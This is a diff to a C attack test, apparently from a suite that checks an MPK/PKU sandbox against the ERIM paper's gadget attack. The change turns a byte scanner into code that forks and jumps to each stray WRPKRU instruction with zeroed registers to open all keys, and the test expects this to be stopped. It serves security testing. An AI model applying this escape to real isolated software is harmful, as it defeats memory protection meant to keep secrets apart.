@@ -1,8 +1,8 @@
 /* class: gates
  * source: ERIM (Vahldiek-Oberwagner et al. 2019), section 3.3
- * tries: to find the bytes of a WRPKRU or XRSTOR that is in no gate and not in libc or ld.so, in all
- *   executable memory, and to jump there with all keys open
- * must: find none
+ * tries: to find WRPKRU in executable memory outside of the gates, of libc and of ld.so, and to jump
+ *   there with EAX = 0
+ * must: find none that goes on with the value
  * expect: stopped */
 #include "attack.h"
 
@@ -17,14 +17,24 @@ static int is_gates(word at)
     return 0;
 }
 
-static void search(word low, word high)
+static void try_at(const unsigned char *at)
 {
-    for (word at = low; at + 5 < high; at++) {
-        const unsigned char *p = (const unsigned char *)at;
-        int wrpkru = p[0] == 0x0f && p[1] == 0x01 && p[2] == 0xef && !is_gates(at);
-        int xrstor = p[0] == 0x0f && p[1] == 0xae && (p[2] & 0x38) == 0x28 && p[2] < 0xc0;
-        if (wrpkru || xrstor)
-            effect("there are bytes that set PKRU outside of the gates");
+    int status, child = SYS(SYS_fork);
+    if (!child) {
+        asm volatile("call *%0" ::"r"(at), "a"(0), "c"(0), "d"(0) : "memory");
+        own();
+        SYS(SYS_exit_group, 0);
+    }
+    SYS(SYS_wait4, child, &status, 0);
+}
+
+static void search(const char *low, const char *high)
+{
+    const char *at = low;
+    while ((at = memmem(at, high - at, "\x0f\x01\xef", 3))) {
+        if (!is_gates((word)at))
+            try_at((const unsigned char *)at);
+        at++;
     }
 }
 
@@ -37,5 +47,5 @@ ATTACK
         if (sscanf(line, "%lx-%lx %7s", &low, &high, mode) == 3 && mode[2] == 'x' &&
             mode[0] == 'r' && !strstr(line, "libc.so") && !strstr(line, "ld-linux") &&
             !strstr(line, "[v"))
-            search(low, high);
+            search((char *)low, (char *)high);
 }
